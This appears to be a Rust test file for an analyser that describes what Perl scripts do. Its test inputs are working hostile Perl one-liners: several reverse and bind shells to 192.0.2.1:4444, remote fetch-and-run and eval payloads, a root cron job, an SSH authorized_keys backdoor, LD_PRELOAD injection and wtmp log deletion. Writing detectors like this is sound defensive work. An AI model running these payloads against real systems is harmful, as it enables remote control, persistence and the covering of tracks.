//! Code that says what it does.

use super::does;

#[test]
fn connections_carry_shells() {
    for script in [
        r#"use Socket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#,
        r#"use IO::Socket::INET; my $c = IO::Socket::INET->new(PeerAddr => "192.0.2.1:4444"); STDIN->fdopen($c, 'r'); $~->fdopen($c, 'w'); system $_ while <>;"#,
        r#"use IO::Socket::INET; my $s = new IO::Socket::INET(PeerHost => '192.0.2.1', PeerPort => 4444, Proto => 'tcp') or die; open STDIN, "<&", $s; open STDOUT, ">&", $s; exec '/bin/bash', '-i';"#,
        r#"use Socket; my ($h, $p) = ('192.0.2.1', 4444); my $proto = getprotobyname('tcp'); socket(my $sock, AF_INET, SOCK_STREAM, $proto) || die; connect($sock, pack('S n a4 x8', 2, $p, pack('C4', split(/\./, $h)))); open(STDIN, "<&=" . fileno($sock)); open(STDOUT, ">&=" . fileno($sock)); system("/bin/sh");"#,
        r#"use IO::Socket; $s = IO::Socket::INET->new("192.0.2.1:4444"); while (my $cmd = <$s>) { chomp $cmd; my $out = `$cmd 2>&1`; print $s $out; }"#,
        r#"use IO::Socket; $s = IO::Socket::INET->new("192.0.2.1:4444"); while (<$s>) { open(P, "$_ |"); print $s $_ while <P>; close P; }"#,
        r#"use POSIX; use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr=>'192.0.2.1',PeerPort=>4444); POSIX::dup2(fileno($s), $_) for 0..2; exec "/bin/sh";"#,
        r#"use IO::Socket::INET; use IPC::Open3; my $c = IO::Socket::INET->new('192.0.2.1:4444'); open3("<&" . fileno $c, ">&" . fileno $c, ">&" . fileno $c, "/bin/sh", "-i");"#,
    ] {
        assert!(does(script, "connect 192.0.2.1:4444"));
        let all = super::acts(script);
        let ordered = all.iter().any(|act| {
            act.starts_with("execute /bin") && act.contains("<#1")
                || act.starts_with("evaluate shell: {received}")
        });
        assert!(ordered, "{all:#?} of {script}");
    }
    let bound = r#"use Socket; socket(S, PF_INET, SOCK_STREAM, 6); bind(S, sockaddr_in(31337, INADDR_ANY)); listen(S, 5); while (accept(C, S)) { open(STDIN, "<&C"); open(STDOUT, ">&C"); exec("/bin/sh"); }"#;
    assert!(does(bound, "listen 0.0.0.0:31337"));
    assert!(does(bound, "execute /bin/sh  <#1"));
    let local = r#"use IO::Socket; my $l = IO::Socket::INET->new(LocalPort => 4444, Listen => 1, Reuse => 1); my $c = $l->accept; while (my $line = <$c>) { print $c `$line`; }"#;
    assert!(does(local, "listen :4444"));
    assert!(does(local, "evaluate shell: {received}"));
}

#[test]
fn programs_are_started() {
    for (script, act) in [
        ("system('id');", "evaluate shell: id"),
        ("system './x', '-rf', '/x';", "execute ./x -rf /x"),
        ("my $x = `uname -a`;", "evaluate shell: uname"),
        ("print qx{hostname};", "evaluate shell: hostname"),
        ("open(my $f, '-|', './x', 'aux') or die;", "execute ./x aux"),
        (
            "open(P, '|sh'); print P \"id\\n\"; close(P);",
            "evaluate shell: id",
        ),
        ("open F, \"ls |\";", "evaluate shell: ls"),
        (
            "exec { '/bin/sh' } 'kworker', '-c', 'id';",
            "evaluate shell: id",
        ),
        (
            "sub run { my ($c) = @_; return `$c`; } run('whoami');",
            "evaluate shell: whoami",
        ),
        (
            "my $f = sub { system(shift) }; $f->('id');",
            "evaluate shell: id",
        ),
        (
            "package A; sub new { my $class = shift; my $self = { cmd => shift }; return bless $self, $class; } sub go { my $self = shift; system($self->{cmd}); } package main; my $a = A->new('id'); $a->go();",
            "evaluate shell: id",
        ),
        ("for my $c (qw(id w)) { system $c }", "evaluate shell: w"),
        ("system($_) foreach ('id');", "evaluate shell: id"),
        (
            "my %h = (a => 'id'); system($h{a}) if 1;",
            "evaluate shell: id",
        ),
        ("my @c = ('id', 'w'); system($c[1]);", "evaluate shell: w"),
        ("BEGIN { system 'id' }", "evaluate shell: id"),
        (
            "$ENV{LD_PRELOAD} = '/tmp/x.so'; system 'id';",
            "SetVariable",
        ),
    ] {
        assert!(does(script, act));
    }
}

#[test]
fn fetches_and_files_are_told() {
    for (script, act) in [
        (
            "use LWP::Simple; getstore('http://192.0.2.1/x', '/tmp/x'); chmod 0755, '/tmp/x'; system '/tmp/x';",
            "fetch http://192.0.2.1/x to /tmp/x",
        ),
        (
            "use LWP::UserAgent; my $ua = LWP::UserAgent->new; my $r = $ua->get('http://192.0.2.1/p.pl'); eval $r->decoded_content;",
            "evaluate Perl: {content of http://192.0.2.1/p.pl}",
        ),
        (
            "use HTTP::Tiny; eval HTTP::Tiny->new->get('http://192.0.2.1/p')->{content};",
            "evaluate Perl: {content of http://192.0.2.1/p}",
        ),
        (
            "use LWP::Simple; eval get('http://192.0.2.1/p');",
            "evaluate Perl: {content of http://192.0.2.1/p}",
        ),
        (
            "open(my $fh, '>', '/etc/cron.d/x') or die; print $fh \"* * * * * root sh /tmp/x\\n\"; close $fh;",
            "write /etc/cron.d/x",
        ),
        (
            "open(F, '>>/root/.ssh/authorized_keys'); print F 'ssh-rsa AAAA'; close(F);",
            "write /root/.ssh/authorized_keys",
        ),
        (
            "open F, '>/tmp/x'; print {F} <<'E'; close F;\n#!/bin/sh\nid\nE\n",
            "write /tmp/x: #!/bin/sh",
        ),
        ("unlink '/var/log/wtmp', $0;", "Delete"),
        ("kill 9, 1234;", "Kill"),
    ] {
        assert!(does(script, act));
    }
}

#[test]
fn lines_are_those_of_the_file() {
    let lowered =
        super::lowered("#!/usr/bin/perl\n\n=pod\n\nx\n\n=cut\n\nmy $x = 1;\nsystem('id');\n");
    assert!(
        lowered.acts.iter().all(|act| act.line == 10),
        "{:?}",
        lowered.acts
    );
    assert!(
        lowered
            .acts
            .iter()
            .any(|act| act.evidence.contains("system('id')"))
    );
}
